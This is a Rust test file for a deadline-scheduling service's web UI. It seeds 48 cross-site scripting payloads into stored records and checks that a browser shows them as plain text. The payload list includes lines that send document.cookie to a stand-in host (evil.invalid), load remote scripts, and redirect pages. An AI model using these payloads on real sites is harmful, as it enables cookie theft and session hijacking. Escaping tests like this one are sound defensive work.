//! Text that would do something if anything on a page believed it, in every place where text of others is shown.

use std::collections::BTreeMap;

use duewheel::deadline::Note;
use duewheel::sweep::reconcile::{Finding, Level, Reconciliation, Section};
use duewheel::wheel::{Settlement, What, WorkerRecord};
use serde_json::{Value, json};

use super::*;
use crate::rig::wheel::{ask, stays};

/// Cross-site scripting as attackers write it: elements, attributes, breaking out of quotes, of comments, of scripts and of styles, URLs,
/// other spellings, and what other template languages would evaluate.
pub const STRINGS: [&str; 48] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "\"><script>alert(3)</script>",
    "'><script>alert(4)</script>",
    "</script><script>alert(5)</script>",
    "</title><script>alert(6)</script>",
    "</textarea><script>alert(7)</script>",
    "</style><script>alert(8)</script>",
    "--><script>alert(9)</script>",
    "]]><script>alert(10)</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<script src=\"data:text/javascript,alert(12)\"></script>",
    "<script>fetch('//evil.invalid/?'+document.cookie)</script>",
    "<img src=x onerror=alert(14)>",
    "\"><img src=x onerror=\"alert(15)\">",
    "<img src=`x` onerror=`alert(16)`>",
    "<img src=//evil.invalid/pixel.gif>",
    "<svg onload=alert(18)>",
    "<svg/onload=alert(19)//",
    "<svg><script>alert(20)</script></svg>",
    "<svg><animate onbegin=alert(21) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(22)\"><text x=9 y=9>X</text></a></svg>",
    "<math><a xlink:href=javascript:alert(23)>X</a></math>",
    "<body onload=alert(24)>",
    "<iframe src=javascript:alert(25)></iframe>",
    "<iframe srcdoc=\"<script>alert(26)</script>\"></iframe>",
    "<object data=javascript:alert(27)></object>",
    "<embed src=javascript:alert(28)>",
    "<a href=javascript:alert(29)>X</a>",
    "<a href=\"jav&#x09;ascript:alert(30)\">X</a>",
    "<form action=javascript:alert(31)><button>X</button></form>",
    "<button formaction=javascript:alert(32)>X</button>",
    "<input autofocus onfocus=alert(33)>",
    "<select autofocus onfocus=alert(34)></select>",
    "<details open ontoggle=alert(35)>X</details>",
    "<video><source onerror=alert(36)></video>",
    "<audio src=x onerror=alert(37)>",
    "<marquee onstart=alert(38)>X</marquee>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.invalid/\">",
    "<style>@import'//evil.invalid/x.css';</style>",
    "<div style=\"background:url(javascript:alert(43))\">X</div>",
    "\" autofocus onfocus=alert(44) x=\"",
    "' onmouseover='alert(45)",
    "javascript:alert(46)//",
    "{{constructor.constructor('alert(47)')()}}${alert(47)}<%= alert(47) %>",
    "\u{202e}<script>alert(48)</script>\u{2028}data: x\u{200b}<!--",
];

/// Puts every one of them into ids, payloads, reasons, errors, worker records, the records of jobs and the audit.
async fn seed(server: &RedisServer, wheel: &Wheel) {
    for text in STRINGS {
        let payload = Payload::from_json(json!({"note": text, text: [text]}).to_string()).unwrap();
        let waits = Deadline { payload, ..deadline(text, after(3_600_000)) };
        wheel.enqueue(&waits, OnConflict::Keep, false).await.unwrap().unwrap();
        let dies = deadline(&format!("dead {text}"), after(0));
        wheel.enqueue(&dies, OnConflict::Keep, false).await.unwrap().unwrap();
    }
    for (shard, nonce) in wheel.shards().all().zip(1_u64..) {
        let leases = wheel.claim(shard, &ask(nonce)).await.unwrap().leases;
        let bury = leases.iter().map(|lease| {
            let reason = lease.id.as_str().trim_start_matches("dead ").to_owned();
            Settlement { id: lease.id.clone(), fence: lease.fence, what: What::Bury(reason) }
        });
        wheel.settle(shard, &bury.collect::<Vec<_>>()).await.unwrap();
    }
    let texts = |stem: &str| STRINGS.iter().map(|text| format!("{stem}{text}")).collect::<Vec<_>>();
    for (n, text) in STRINGS.iter().enumerate() {
        let record = WorkerRecord {
            token: format!("t{n}{text}"),
            host: (*text).to_owned(),
            pid: 1,
            version: (*text).to_owned(),
            started_ms: 1,
            in_flight: 1,
            draining: false,
            clocks: BTreeMap::from([((*text).to_owned(), 1000)]),
            pauses: BTreeMap::from([((*text).to_owned(), 4_102_444_800_000)]),
            held_back: texts("held back: "),
            drained: None,
            claims: Vec::new(),
        };
        stays(wheel, &record).await;
    }
    let key = |rest: &str| format!("dw1:{{{}}}:{rest}", wheel.name());
    for text in STRINGS {
        wheel.pause(&Note::new(text, text).unwrap()).await.unwrap();
        for job in ["feed", "sweep", "rebuild", "reconcile"] {
            let record = if job == "reconcile" { reconciliation(text) } else { report(text) }.to_string();
            server.command::<String>(&["XADD", &key(&format!("runs:{job}")), "*", "record", &record]);
            for (field, value) in [("runner", text), (":error", text), ("until", "4102444800000000")] {
                server.command::<u64>(&["HSET", &key(&format!("job:{job}")), field, value]);
            }
        }
        // As an act of an operator who is called that.
        let act = [
            "action", "cancel", "id", text, "by", text, "door", text, "reason", text, "about", text, "said",
            text,
        ];
        server.command::<String>(&[&["XADD", &key("audit"), "*"], &act[..]].concat());
    }
}

fn report(text: &str) -> Value {
    json!({"job": text, "runner": text, "began_at_ms": 1, "refused": 1, "dead": 1, "refusal": text})
}

fn reconciliation(text: &str) -> Value {
    let finding = Finding {
        id: text.to_owned(),
        table: text.to_owned(),
        wheel: text.to_owned(),
        healed: Some(text.to_owned()),
    };
    let section = Section {
        name: text.to_owned(),
        level: Level::High,
        count: 1,
        healed: 0,
        capped: false,
        error: Some(text.to_owned()),
        first: vec![finding],
    };
    let whole = Reconciliation {
        wheel: text.to_owned(),
        runner: text.to_owned(),
        level: Some(Level::High),
        classes: vec![section.clone()],
        rules: vec![section],
        ..Reconciliation::default()
    };
    serde_json::to_value(whole).unwrap()
}

#[tokio::test]
async fn what_strangers_write_is_shown_as_text_and_does_nothing() {
    let browser = browser!();
    let scene = Scene::set(RedisServer::shared()).await;
    seed(RedisServer::shared(), scene.wheel()).await;
    // Some are shown as to a person; the others the browser takes apart as it does for one, which costs far less.
    let (mut more, mut parsed) = (Vec::new(), Vec::new());
    for (n, text) in STRINGS.iter().enumerate() {
        let id = in_path(text);
        let places = if n % 8 == 0 { &mut more } else { &mut parsed };
        places.push(scene.path(&format!("/deadline?id={id}")));
        let places = if n % 16 == 0 { &mut more } else { &mut parsed };
        places.push(scene.path(&format!("/deadline?id=dead%20{id}")));
        if n % 6 != 0 {
            continue;
        }
        // What was asked for stands on the page, too.
        let places = if n == 0 { &mut more } else { &mut parsed };
        for asked in [
            "/deadlines?id=",
            "/deadlines?reason=",
            "/deadlines?cursor=",
            "/dead?reason=",
            "/audit?id=",
            "/audit?act=",
            "/?said=",
            "/dead?said=",
        ] {
            places.push(scene.path(asked).replace("/?", "?") + &id);
        }
    }
    // Whoever is logged in is sent on from the door, to where nobody else may lead.
    for text in STRINGS.iter().step_by(16) {
        more.push(format!("/login?next={}", in_path(text)));
    }
    let with = json!({"wheel": scene.name(), "more": more, "parsed": parsed, "any": true});
    let seen = browser.journey("walk", &scene.page.anna(), with).await;
    let seen = seen.as_array().unwrap();
    // Shown, and not swallowed: as a person reads it, on the page of its own.
    let text_of = |path: &str| seen.iter().find(|one| one["path"] == path).unwrap()["text"].as_str().unwrap();
    for text in &STRINGS[..STRINGS.len() - 1] {
        let shown = text_of(&scene.path(&format!("/deadline?id={}", in_path(text))));
        assert!(shown.contains(text), "{text}: {shown}");
    }
}
